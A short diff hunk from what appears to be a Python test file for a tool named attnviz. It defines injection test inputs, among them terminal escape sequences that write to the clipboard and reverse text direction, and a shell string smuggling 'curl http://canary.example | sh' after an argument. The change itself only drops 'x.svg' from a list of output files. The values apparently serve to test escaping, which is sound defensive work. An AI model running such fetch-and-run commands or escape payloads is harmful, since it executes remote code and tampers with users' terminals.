@@ -36,7 +36,7 @@ ESCAPE = "a\x1b]52;c;Q\x07\u202eb\x9b2J"
 SPELLED = r"a\u001b]52;c;Q\u0007\u202eb\u009b2J"  # as TOML and JSON write it
 SHELL = "attnviz run 'I am'; curl http://canary.example | sh"
 PYTHON = "open({!r}, 'w').close()\nfrom transformers import BertConfig as C, BertModel as M\n"
-OUTPUTS = ("x.html", "x.svg", "x.md", "x.json")
+OUTPUTS = ("x.html", "x.md", "x.json")
 
 
 @dataclass
